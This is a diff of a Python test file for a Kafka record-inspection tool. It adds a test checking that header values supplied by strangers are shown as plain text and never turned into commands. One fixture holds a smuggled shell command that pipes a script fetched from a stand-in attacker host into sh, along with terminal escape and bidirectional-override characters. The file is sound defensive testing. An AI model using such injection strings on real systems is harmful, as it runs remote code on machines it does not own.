@@ -7,6 +7,7 @@ import orjson
 from rich.console import Console, RenderableType
 
 from consumer.core.record import Headers
+from consumer.letters.commands import print_to
 from consumer.letters.content_text import Extent, Where
 from consumer.letters.counting import HOUR_MS, count_letters
 from consumer.letters.counts_json import counts_json
@@ -30,8 +31,7 @@ def printed(parts: Iterable[RenderableType]) -> list[str]:
     """The lines of a wide terminal, without what fills them up; none may steer it."""
     text = io.StringIO()
     console = Console(file=text, width=200, highlight=False, markup=False)
-    for part in parts:
-        console.print(part)
+    print_to(console, parts)
     lines = [line.rstrip() for line in text.getvalue().splitlines()]
     assert all(line.isprintable() for line in lines)
     return lines
@@ -139,6 +139,16 @@ def test_a_value_that_was_left_out_is_to_be_found_at_its_source() -> None:
         "What the mapping makes of it today (mapping.yaml)",
         "  not judged: the value is not here",
     ]
+
+
+def test_what_a_stranger_wrote_into_the_headers_is_no_command() -> None:
+    """Not of the coordinates, and neither name nor text of a header steers the terminal."""
+    said = {"topic": "signal; curl evil.example | sh #", "partition": "0", "offset": "7", "odd\x1b[2J\u202e": "\x9b2J"}
+    headers: Headers = [(f"signal-kameleoon.{name}", text.encode()) for name, text in said.items()]
+    lines = shown(strange([*headers, ("signal-kameleoon.value-sha256", b"0" * 64)], None))
+    assert not any("kafka-console-consumer" in line for line in lines)
+    assert any("unknown: no record of Kafka has these coordinates: topic signal; curl" in line for line in lines)
+    assert "Value: left out" in lines[-2]
 
 
 def test_a_tombstone_says_that_it_is_one() -> None:
